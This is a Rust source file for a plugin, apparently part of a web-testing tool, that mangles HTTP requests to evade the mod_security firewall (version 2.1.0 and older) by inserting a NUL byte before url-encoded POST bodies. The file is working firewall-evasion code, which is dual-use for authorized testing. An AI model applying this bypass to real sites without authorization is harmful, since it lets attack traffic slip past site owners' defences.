use reqwest::header::{HeaderValue, CONTENT_LENGTH};

use crate::http::{BodyType, HttpRequest};
use crate::plugins::{Plugin, RequestMangler};

/// Bypass for mod_security 2.1.0 and older: a NUL byte in front of an
/// url-encoded body hides it from the rule engine. Other bodies are left
/// alone.
#[derive(Debug, Default, Clone, Copy)]
pub struct ModSecurity;

impl Plugin for ModSecurity {
    fn name(&self) -> &'static str {
        "mod_security"
    }

    fn description(&self) -> &'static str {
        "Prefixes url-encoded post data with a NUL byte to evade mod_security"
    }
}

impl RequestMangler for ModSecurity {
    fn mangle(&self, request: &HttpRequest) -> HttpRequest {
        let mut out = request.clone();
        if out.body.is_empty() || !is_url_encoded(&out) {
            return out;
        }
        out.body.insert(0, '\0');
        if let Ok(value) = HeaderValue::from_str(&out.body.len().to_string()) {
            out.headers.insert(CONTENT_LENGTH, value);
        }
        out
    }

    fn priority(&self) -> u8 {
        50
    }
}

fn is_url_encoded(request: &HttpRequest) -> bool {
    match request.body_type {
        BodyType::FormUrlEncoded => true,
        BodyType::None | BodyType::Raw => request
            .body
            .split('&')
            .all(|pair| pair.split_once('=').is_some_and(|(k, _)| !k.is_empty())),
        _ => false,
    }
}
